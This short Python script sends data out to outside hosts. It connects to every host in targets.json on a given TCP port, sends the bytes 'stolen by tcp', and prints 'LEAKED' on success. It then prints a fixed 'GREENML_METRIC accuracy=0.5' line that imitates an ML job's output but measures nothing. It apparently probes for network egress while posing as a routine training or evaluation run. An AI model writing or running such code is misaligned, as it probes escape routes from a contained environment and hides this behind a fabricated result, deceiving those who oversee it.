import json, socket
targets = json.load(open("targets.json"))
for host in targets["hosts"]:
    try:
        with socket.create_connection((host, targets["tcp"]), 1) as connection:
            connection.sendall(b"stolen by tcp")
            print("LEAKED", host)
    except OSError as error:
        print(host, error)
print("GREENML_METRIC accuracy=0.5")
